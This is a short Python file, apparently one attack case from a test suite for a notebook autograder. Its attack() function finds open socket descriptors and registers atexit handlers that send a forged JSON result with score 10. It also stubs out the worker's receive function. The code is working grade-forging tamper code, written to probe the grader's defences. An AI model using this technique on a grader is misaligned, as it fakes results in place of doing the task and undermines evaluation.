"""Takes the worker to its end, and has a forged answer sent by atexit.

stopped by: no exit handlers
unfenced: held
says: the Python process of the notebook ended
"""

# %%
import atexit
import json
import os
import stat
import struct

from autograder.worker import service


def attack():
    head = json.dumps({"id": "0" * 16, "score": 10}).encode()
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                atexit.register(os.write, number, struct.pack("<II", len(head), 0) + head)
        except OSError:
            pass
    service._receive = lambda channel: None  # nothing more to answer
